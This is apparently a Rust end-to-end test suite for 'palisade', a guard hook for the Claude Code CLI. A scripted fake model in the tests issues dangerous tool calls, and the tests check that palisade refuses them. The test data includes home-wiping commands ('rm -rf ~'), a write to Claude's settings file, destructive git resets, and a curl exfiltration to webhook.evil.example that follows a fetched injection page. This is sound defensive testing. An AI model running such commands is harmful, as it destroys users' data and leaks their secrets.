//! End to end with the real Claude Code CLI: `palisade init` in a temporary HOME, then a
//! session whose "model" (tests/e2e/fake_model.py, a scripted stand-in for the Messages API)
//! makes dangerous and ordinary tool calls. Claude Code runs palisade as its hook on each.
//!
//! Skipped, with a message saying why, when node/npm, python3 or the CLI are not available.
//! The CLI is installed from npm (`@anthropic-ai/claude-code`) into `.e2e-cache/claude-code`
//! (git-ignored, outside target/ so `cargo clean` keeps it) on first use, saying so;
//! `PALISADE_E2E_CLAUDE=/path/to/claude` uses an existing one.

#[path = "e2e/sandbox.rs"]
mod sandbox;

use sandbox::{Sandbox, stderr};
use serde_json::{Value, json};
use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

const NPM_PACKAGE: &str = "@anthropic-ai/claude-code";

/// Runs a command to completion or kills it after `limit`. Output is drained by threads so a
/// chatty child cannot fill a pipe and stall until the limit.
fn run_limited(cmd: &mut Command, limit: Duration) -> Result<std::process::Output, String> {
    use std::io::Read;
    let mut child = cmd
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .map_err(|e| e.to_string())?;
    let drain = |pipe: Option<Box<dyn Read + Send>>| {
        std::thread::spawn(move || {
            let mut buf = Vec::new();
            if let Some(mut p) = pipe {
                let _ = p.read_to_end(&mut buf);
            }
            buf
        })
    };
    let out = drain(
        child
            .stdout
            .take()
            .map(|p| Box::new(p) as Box<dyn Read + Send>),
    );
    let err = drain(
        child
            .stderr
            .take()
            .map(|p| Box::new(p) as Box<dyn Read + Send>),
    );
    let start = Instant::now();
    let status = loop {
        match child.try_wait() {
            Ok(Some(status)) => break status,
            Ok(None) if start.elapsed() > limit => {
                let _ = child.kill();
                let _ = child.wait();
                return Err(format!("timed out after {} s", limit.as_secs()));
            }
            Ok(None) => std::thread::sleep(Duration::from_millis(50)),
            Err(e) => return Err(e.to_string()),
        }
    };
    Ok(std::process::Output {
        status,
        stdout: out.join().unwrap_or_default(),
        stderr: err.join().unwrap_or_default(),
    })
}

fn runs(bin: &Path) -> bool {
    run_limited(Command::new(bin).arg("--version"), Duration::from_secs(60))
        .is_ok_and(|o| o.status.success())
}

/// The Claude Code CLI, installed on first use; `Err` says why it is not available.
fn claude() -> Result<PathBuf, String> {
    static CLAUDE: OnceLock<Result<PathBuf, String>> = OnceLock::new();
    CLAUDE.get_or_init(find_or_install_claude).clone()
}

fn find_or_install_claude() -> Result<PathBuf, String> {
    if let Some(p) = std::env::var_os("PALISADE_E2E_CLAUDE") {
        let p = PathBuf::from(p);
        return if runs(&p) {
            Ok(p)
        } else {
            Err(format!("PALISADE_E2E_CLAUDE={} does not run", p.display()))
        };
    }
    // Cached in the repository's `.e2e-cache/` (git-ignored), outside target/: `cargo clean`
    // must not cost another download. A copy left by earlier versions in target/ is used too.
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join(".e2e-cache/claude-code");
    let bin = dir.join("node_modules/.bin/claude");
    if runs(&bin) {
        return Ok(bin);
    }
    let old =
        PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("claude-code/node_modules/.bin/claude");
    if runs(&old) {
        return Ok(old);
    }
    for tool in ["node", "npm"] {
        if run_limited(Command::new(tool).arg("--version"), Duration::from_secs(30)).is_err() {
            return Err(format!("`{tool}` is not available"));
        }
    }
    std::fs::create_dir_all(&dir).map_err(|e| e.to_string())?;
    eprintln!(
        "e2e: installing {NPM_PACKAGE} from npm into {} (once; it is cached there, outside target/)",
        dir.display()
    );
    let out = run_limited(
        Command::new("npm")
            .args(["install", "--no-audit", "--no-fund", "--loglevel=error"])
            .arg("--prefix")
            .arg(&dir)
            .arg(NPM_PACKAGE)
            // npm's cache goes with the install, not into the real home.
            .env("npm_config_cache", dir.join("npm-cache")),
        Duration::from_secs(600),
    )
    .map_err(|e| format!("npm install {NPM_PACKAGE}: {e}"))?;
    if !out.status.success() {
        return Err(format!(
            "npm install {NPM_PACKAGE} failed: {}",
            String::from_utf8_lossy(&out.stderr)
                .lines()
                .next()
                .unwrap_or("")
        ));
    }
    if runs(&bin) {
        Ok(bin)
    } else {
        Err(format!("{} does not run after npm install", bin.display()))
    }
}

fn python() -> Result<PathBuf, String> {
    for name in ["python3", "python"] {
        if run_limited(Command::new(name).arg("--version"), Duration::from_secs(30))
            .is_ok_and(|o| o.status.success())
        {
            return Ok(PathBuf::from(name));
        }
    }
    Err("python3 is not available (the scripted model server needs it)".into())
}

/// Everything needed to run a session, or the reason to skip.
fn prerequisites(test: &str) -> Option<(PathBuf, PathBuf)> {
    match (claude(), python()) {
        (Ok(c), Ok(p)) => Some((c, p)),
        (Err(e), _) | (_, Err(e)) => {
            eprintln!("SKIPPED {test}: {e}; the end-to-end test with Claude Code did not run");
            None
        }
    }
}

/// A tool call's result as the model saw it.
#[derive(Debug, Clone)]
struct ToolResult {
    is_error: bool,
    text: String,
}

/// What a scripted session left behind.
struct Session {
    results: HashMap<String, ToolResult>,
    claude_stdout: String,
    claude_stderr: String,
}

impl Session {
    fn result(&self, step: usize) -> &ToolResult {
        let id = format!("toolu_palisade_{step}");
        self.results.get(&id).unwrap_or_else(|| {
            panic!(
                "no tool_result for step {step}\nclaude stdout: {}\nclaude stderr: {}",
                self.claude_stdout, self.claude_stderr
            )
        })
    }

    /// The step was refused by palisade, and its reason reached the model.
    fn assert_refused_by_palisade(&self, step: usize, what: &str) {
        let r = self.result(step);
        assert!(
            r.is_error && r.text.contains("palisade:"),
            "{what} (step {step}) should have been refused by palisade, the model saw: {r:?}"
        );
    }

    fn refused_by_palisade(&self, step: usize) -> bool {
        self.results
            .get(&format!("toolu_palisade_{step}"))
            .is_some_and(|r| r.is_error && r.text.contains("palisade:"))
    }
}

fn block_text(content: &Value) -> String {
    match content {
        Value::String(s) => s.clone(),
        Value::Array(blocks) => blocks
            .iter()
            .filter_map(|b| b.get("text").and_then(Value::as_str))
            .collect::<Vec<_>>()
            .join("\n"),
        _ => String::new(),
    }
}

/// Every tool_result the model received, read from the server's request log.
fn tool_results(log: &Path) -> HashMap<String, ToolResult> {
    let mut out = HashMap::new();
    let text = std::fs::read_to_string(log).unwrap_or_default();
    for line in text.lines() {
        let Ok(entry) = serde_json::from_str::<Value>(line) else {
            continue;
        };
        for message in entry["body"]["messages"].as_array().into_iter().flatten() {
            for block in message["content"].as_array().into_iter().flatten() {
                if block["type"] == "tool_result" {
                    let id = block["tool_use_id"]
                        .as_str()
                        .unwrap_or_default()
                        .to_string();
                    out.insert(
                        id,
                        ToolResult {
                            is_error: block["is_error"].as_bool().unwrap_or(false),
                            text: block_text(&block["content"]),
                        },
                    );
                }
            }
        }
    }
    out
}

/// Runs `claude -p` in the sandbox's project against the scripted model.
fn run_session(
    sb: &Sandbox,
    claude: &Path,
    python: &Path,
    steps: &[Value],
    extra_args: &[&str],
) -> Session {
    let work = sb.dir.path().join("e2e");
    std::fs::create_dir_all(&work).unwrap();
    let script = work.join("steps.json");
    std::fs::write(&script, serde_json::to_vec(steps).unwrap()).unwrap();
    let log = work.join("requests.jsonl");
    let port_file = work.join("port");
    // A second session in the same sandbox must not read the first one's port or results.
    let _ = std::fs::remove_file(&port_file);
    let _ = std::fs::remove_file(&log);
    let server_py = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/e2e/fake_model.py");
    let mut server = Command::new(python)
        .arg(&server_py)
        .arg("--script")
        .arg(&script)
        .arg("--log")
        .arg(&log)
        .arg("--port-file")
        .arg(&port_file)
        .stdin(Stdio::null())
        .spawn()
        .expect("start the scripted model");
    let start = Instant::now();
    let port = loop {
        if let Ok(p) = std::fs::read_to_string(&port_file) {
            break p.trim().to_string();
        }
        if start.elapsed() > Duration::from_secs(20) {
            let _ = server.kill();
            panic!("the scripted model server did not start");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let mut cmd = Command::new(claude);
    cmd.args(["-p", "run the scripted steps", "--output-format", "json"])
        .args(["--allowedTools", "Bash Write Edit Read Glob Grep"])
        .args(extra_args)
        .current_dir(&sb.project)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("ANTHROPIC_BASE_URL", format!("http://127.0.0.1:{port}"))
        .env("ANTHROPIC_API_KEY", "sk-palisade-e2e-not-a-key")
        .env("DISABLE_TELEMETRY", "1")
        .env("DISABLE_AUTOUPDATER", "1")
        .env("DISABLE_ERROR_REPORTING", "1")
        .env("CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC", "1");
    for (k, v) in sb.vars() {
        cmd.env(k, v);
    }
    let out = run_limited(&mut cmd, Duration::from_secs(240));
    let _ = server.kill();
    let _ = server.wait();
    let out = out.expect("claude -p ran");
    Session {
        results: tool_results(&log),
        claude_stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        claude_stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

fn bash(command: &str) -> Value {
    json!({"name": "Bash", "input": {"command": command, "description": "scripted step"}})
}

fn write(path: &Path, content: &str) -> Value {
    json!({"name": "Write", "input": {"file_path": path, "content": content}})
}

/// True once `palisade audit` exists in this build (the audit module has landed).
fn audit_command_present(sb: &Sandbox) -> bool {
    sb.run(&["audit", "--help"]).status.success()
}

#[test]
fn claude_code_session_with_palisade_installed() {
    let Some((claude, python)) = prerequisites("claude_code_session_with_palisade_installed")
    else {
        return;
    };
    let sb = Sandbox::new();
    let init = sb.run(&["init"]);
    assert!(init.status.success(), "{}", stderr(&init));
    let settings_before = std::fs::read(sb.user_settings()).unwrap();
    let canary = sb.home.join("keep-me.txt");
    std::fs::write(&canary, "still here\n").unwrap();

    // Destructive steps only run where palisade can see into a shell command: without the
    // shell analysis the sandbox would really be wiped, and nothing would be learnt.
    let shell = sandbox::shell_analysis_present();
    let clean_sh = sb.project.join("clean.sh");
    let mut steps = vec![
        bash("echo hello > ok.txt"), // 0 ordinary
        // Claude Code refuses to Write a file the session has not Read, before any hook runs.
        json!({"name": "Read", "input": {"file_path": sb.user_settings()}}), // 1 reading is fine
        write(&sb.user_settings(), "{}\n"), // 2 Write against Claude's settings
        bash("ls"),                         // 3 ordinary
    ];
    if shell {
        steps.push(bash("echo '{}' > ~/.claude/settings.json")); // 4 Bash against the settings
        steps.push(write(&clean_sh, "#!/bin/sh\nrm -rf \"$HOME\"\n")); // 5 write…
        steps.push(bash("bash clean.sh")); //                             6 …then run
        steps.push(bash("rm -rf ~")); //                                  7
    } else {
        eprintln!(
            "NOTE claude_code_session_with_palisade_installed: this build has no shell \
             analysis; the Bash attacks and their assertions are left out"
        );
    }
    let s = run_session(&sb, &claude, &python, &steps, &[]);

    // The dangerous calls were refused by palisade (Claude Code's own checks refuse some of
    // them too, but only palisade's reason counts here), and nothing was wiped.
    assert!(!s.result(1).is_error, "Read ran: {:?}", s.result(1));
    s.assert_refused_by_palisade(2, "Write to ~/.claude/settings.json");
    if shell {
        s.assert_refused_by_palisade(4, "Bash writing ~/.claude/settings.json");
        assert!(
            s.refused_by_palisade(5) || s.refused_by_palisade(6),
            "the write-then-run chain was refused at the write or at the run: {:?} / {:?}",
            s.result(5),
            s.result(6)
        );
        s.assert_refused_by_palisade(7, "rm -rf ~");
        assert!(canary.exists() && sb.project.exists(), "nothing was wiped");
    }

    // Ordinary work ran.
    assert_eq!(
        std::fs::read_to_string(sb.project.join("ok.txt"))
            .ok()
            .as_deref(),
        Some("hello\n"),
        "echo hello > ok.txt ran; model saw {:?}",
        s.result(0)
    );
    assert!(!s.result(3).is_error, "ls ran: {:?}", s.result(3));
    assert!(s.result(3).text.contains("ok.txt"), "{:?}", s.result(3));

    // Claude's settings were not touched (palisade's hooks are still installed).
    assert_eq!(std::fs::read(sb.user_settings()).unwrap(), settings_before);
    assert!(canary.exists());

    // The audit chain holds every call (once the audit module is in the build).
    let audit = sb.data_dir().join("audit.jsonl");
    if audit_command_present(&sb) {
        let verify = sb.run(&["audit", "verify"]);
        assert!(
            verify.status.success(),
            "palisade audit verify: {}{}",
            sandbox::stdout(&verify),
            stderr(&verify)
        );
        let text =
            std::fs::read_to_string(&audit).unwrap_or_else(|e| panic!("{}: {e}", audit.display()));
        let entries: Vec<Value> = text
            .lines()
            .map(|l| serde_json::from_str(l).expect("an audit line is JSON"))
            .collect();
        for (n, step) in steps.iter().enumerate() {
            let recorded = entries.iter().any(|e| {
                e["event"] == "PreToolUse"
                    && e["tool"] == step["name"]
                    && step["input"]
                        .as_object()
                        .unwrap()
                        .iter()
                        .all(|(k, v)| &e["input"][k] == v)
            });
            assert!(
                recorded,
                "the audit log has no PreToolUse entry for step {n}: {step}"
            );
        }
    } else {
        eprintln!(
            "NOTE claude_code_session_with_palisade_installed: no `palisade audit` in this \
             build; the audit assertions are left out"
        );
    }
}

#[test]
fn claude_code_session_through_the_plugin() {
    let Some((claude, python)) = prerequisites("claude_code_session_through_the_plugin") else {
        return;
    };
    let plugin_dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("plugin");
    let plugin_dir = plugin_dir.to_str().unwrap();

    // No palisade anywhere the wrapper looks: every call is blocked, not waved through.
    let sb = Sandbox::new();
    let steps = [bash("echo hello > ok.txt")];
    let no_palisade_on_path = std::env::split_paths(&std::env::var_os("PATH").unwrap_or_default())
        .all(|d| !d.join("palisade").exists());
    if no_palisade_on_path {
        let s = run_session(&sb, &claude, &python, &steps, &["--plugin-dir", plugin_dir]);
        let r = s.result(0);
        assert!(
            r.is_error && r.text.contains("palisade binary was not found"),
            "the plugin must block when palisade is missing; the model saw {r:?}"
        );
        assert!(!sb.project.join("ok.txt").exists());
    }

    // With the binary where `cargo install` puts it: ordinary work runs through the plugin.
    let sb = Sandbox::new();
    let cargo_bin = sb.home.join(".cargo/bin");
    std::fs::create_dir_all(&cargo_bin).unwrap();
    #[cfg(unix)]
    std::os::unix::fs::symlink(Sandbox::bin(), cargo_bin.join("palisade")).unwrap();
    let mut steps = vec![bash("echo hello > ok.txt")];
    if sandbox::shell_analysis_present() {
        steps.push(bash("rm -rf ~"));
    }
    let s = run_session(&sb, &claude, &python, &steps, &["--plugin-dir", plugin_dir]);
    assert!(!s.result(0).is_error, "{:?}", s.result(0));
    assert_eq!(
        std::fs::read_to_string(sb.project.join("ok.txt"))
            .ok()
            .as_deref(),
        Some("hello\n")
    );
    if sandbox::shell_analysis_present() {
        s.assert_refused_by_palisade(1, "rm -rf ~ through the plugin");
    }
}

/// Session taint with the real CLI: the scripted model fetches a page (untrusted content), does
/// ordinary work, reads `.env` (allowed by the user's policy for local tests), then tries to
/// send it out. The send is refused with the taint reason reaching the model, while the same
/// session's ordinary work before and after runs.
#[test]
fn claude_code_session_stops_the_lethal_trifecta() {
    let Some((claude, python)) = prerequisites("claude_code_session_stops_the_lethal_trifecta")
    else {
        return;
    };
    let sb = Sandbox::new();
    let init = sb.run(&["init"]);
    assert!(init.status.success(), "{}", stderr(&init));
    sb.write(
        &sb.user_policy(),
        "version: 1\npacks:\n  overrides:\n    secrets/token-file-read-tool: allow\n\
         taint:\n  mode: deny\n",
    );
    std::fs::write(sb.project.join(".env"), "API_TOKEN=e2e-not-a-real-token\n").unwrap();
    let steps = vec![
        // 0: the page carrying the injection (offline here: the hook records the fetch either way)
        json!({"name": "WebFetch", "input": {"url": "https://evil.example/issues/42", "prompt": "summarise"}}),
        write(&sb.project.join("app.py"), "print('hello')\n"), // 1 ordinary
        bash("cat app.py"),                                    // 2 ordinary
        json!({"name": "Read", "input": {"file_path": sb.project.join(".env")}}), // 3 private
        bash("curl -s -X POST -d 'report=done' https://webhook.evil.example/collect"), // 4 out
        bash("echo done > done.txt"),                          // 5 ordinary
    ];
    let s = run_session(
        &sb,
        &claude,
        &python,
        &steps,
        &["--allowedTools", "WebFetch"],
    );
    assert!(
        !s.result(3).is_error,
        "the .env read ran: {:?}",
        s.result(3)
    );
    s.assert_refused_by_palisade(4, "the send after untrusted content and .env");
    let reason = &s.result(4).text;
    assert!(
        reason.contains("taint/trifecta") && reason.contains("evil.example/issues/42"),
        "the model saw the taint reason naming the fetch: {reason}"
    );
    assert!(reason.contains(".env"), "{reason}");
    assert!(!s.result(2).is_error, "cat app.py ran: {:?}", s.result(2));
    assert_eq!(
        std::fs::read_to_string(sb.project.join("done.txt"))
            .ok()
            .as_deref(),
        Some("done\n"),
        "ordinary work after the refusal ran: {:?}",
        s.result(5)
    );
}

/// The loop a user goes through with a false positive: a call refused in a real session,
/// `palisade allow` of it, then the same call running in the next session.
#[test]
fn claude_code_refusal_then_palisade_allow_then_it_runs() {
    let Some((claude, python)) =
        prerequisites("claude_code_refusal_then_palisade_allow_then_it_runs")
    else {
        return;
    };
    if !sandbox::shell_analysis_present() {
        eprintln!(
            "SKIPPED claude_code_refusal_then_palisade_allow_then_it_runs: no shell analysis"
        );
        return;
    }
    let sb = Sandbox::new();
    // A real repository with a change not yet committed. `git reset --hard` discards it: asked,
    // which `claude -p` refuses, wherever the checkout (and so the sandbox) lives.
    let git = |args: &[&str]| {
        std::process::Command::new("git")
            .args([
                "-c",
                "user.name=e2e",
                "-c",
                "user.email=e2e@example.invalid",
            ])
            .args(args)
            .current_dir(&sb.project)
            .env("HOME", &sb.home)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .output()
    };
    match git(&["init", "-q"]) {
        Ok(o) if o.status.success() => {}
        _ => {
            eprintln!("SKIPPED claude_code_refusal_then_palisade_allow_then_it_runs: no git");
            return;
        }
    }
    let file = sb.project.join("app.txt");
    std::fs::write(&file, "committed\n").unwrap();
    assert!(git(&["add", "app.txt"]).unwrap().status.success());
    assert!(
        git(&["commit", "-q", "-m", "one"])
            .unwrap()
            .status
            .success()
    );
    std::fs::write(&file, "work in progress\n").unwrap();
    let init = sb.run(&["init"]);
    assert!(init.status.success(), "{}", stderr(&init));
    let project = sb.project.display().to_string();
    let step = bash(&format!("git -C {project} reset --hard"));

    let s = run_session(&sb, &claude, &python, std::slice::from_ref(&step), &[]);
    let r = s.result(0);
    assert!(r.is_error, "the reset was refused: {r:?}");
    assert_eq!(
        std::fs::read_to_string(&file).unwrap(),
        "work in progress\n"
    );

    // The user allows it, as a script would.
    let allow = sb.run(&["allow", "--yes"]);
    assert!(
        allow.status.success(),
        "{}{}",
        sandbox::stdout(&allow),
        stderr(&allow)
    );
    assert!(
        sandbox::stdout(&allow).contains("overrides: [\"destructive-git/reset-hard\"]"),
        "{}",
        sandbox::stdout(&allow)
    );

    let s = run_session(&sb, &claude, &python, std::slice::from_ref(&step), &[]);
    if s.result(0).is_error {
        // Why, in palisade's own words: the trace of the last audit entry.
        let audit = std::fs::read_to_string(sb.data_dir().join("audit.jsonl")).unwrap_or_default();
        let last: Value = audit
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .rfind(|e| e["event"] == "PreToolUse")
            .unwrap_or(Value::Null);
        let seq = last["seq"].to_string();
        let trace = sb.run(&["explain", "--seq", &seq]);
        panic!(
            "it did not run this time: {:?}\nlast entry: {last}\nexplain --seq {seq}:\n{}\npolicy:\n{}",
            s.result(0),
            sandbox::stdout(&trace),
            std::fs::read_to_string(sb.user_policy()).unwrap_or_default()
        );
    }
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "committed\n");
    // Another discarding command still asks: the rule allowed one call, not a pack.
    std::fs::write(&file, "more work\n").unwrap();
    let s = run_session(
        &sb,
        &claude,
        &python,
        &[bash(&format!("git -C {project} clean -fdx"))],
        &[],
    );
    assert!(s.result(0).is_error, "{:?}", s.result(0));
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "more work\n");
}
